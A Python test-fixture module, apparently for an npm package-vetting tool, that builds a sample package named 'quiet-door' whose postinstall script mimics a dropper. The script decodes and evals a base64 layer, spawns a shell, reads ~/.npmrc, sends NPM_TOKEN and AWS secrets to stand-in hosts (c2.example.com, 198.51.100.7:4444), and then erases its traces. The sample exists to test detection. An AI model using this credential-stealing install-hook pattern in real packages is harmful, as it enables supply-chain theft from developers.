"""Harmless packages, written where they are read: they echo, and call documentation's names and addresses."""

import hashlib
import json
from pathlib import Path
from typing import Any

from clew.vetting.subject import Subject

#: An install script that does what a dropper does, to nobody: a decoded layer, a child shell, calls, a theft, and it
#: wipes its own traces.
DROPPER = """\
const fs = require('fs'), net = require('net'), { execSync } = require('child_process');
eval(Buffer.from('Z2xvYmFsVGhpcy5kZWNvZGVkID0gImxheWVyIg==', 'base64').toString());
execSync('echo harmless > dropped.txt; chmod 755 dropped.txt');
fs.readFileSync(process.env.HOME + '/.npmrc');
const body = JSON.stringify({ token: process.env.NPM_TOKEN });
fetch('https://c2.example.com/beacon?v=1', { method: 'POST', body }).then(() => {
  const secret = Buffer.from(process.env.AWS_SECRET_ACCESS_KEY).toString('base64');
  net.connect(4444, '198.51.100.7', function () { this.end('hello ' + secret); this.on('close', clean); this.resume(); });
});
function clean() {
  fs.unlinkSync(__filename);
  fs.renameSync('package.md', 'package.json');
}
"""


def npm(folder: Path, files: dict[str, str], **manifest: Any) -> Subject:
    """An npm package of these files; `manifest` are more fields of its package.json."""
    about: dict[str, object] = {"name": folder.name, "version": "1.0.0", **manifest}
    return _subject("npm", folder, {"package.json": json.dumps(about), **files}, about)


def dropper(folder: Path) -> Subject:
    files = {
        "setup.js": DROPPER,
        "index.js": "module.exports = 1;\n",
        "package.md": '{"name":"quiet-door"}\n',
    }
    return npm(folder / "quiet-door", files, scripts={"postinstall": "node setup.js"})


def _subject(ecosystem: Any, folder: Path, files: dict[str, str], manifest: dict[str, object]) -> Subject:
    for name, text in files.items():
        (folder / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / name).write_text(text)
    digests = {name: hashlib.sha256(text.encode()).hexdigest() for name, text in files.items()}
    whole = hashlib.sha256(json.dumps(sorted(digests.items())).encode()).hexdigest()
    return Subject(
        ecosystem=ecosystem,
        name=folder.name,
        version=str(manifest["version"]),
        folder=folder,
        sha256=whole,
        files=digests,
        manifest=manifest,
    )
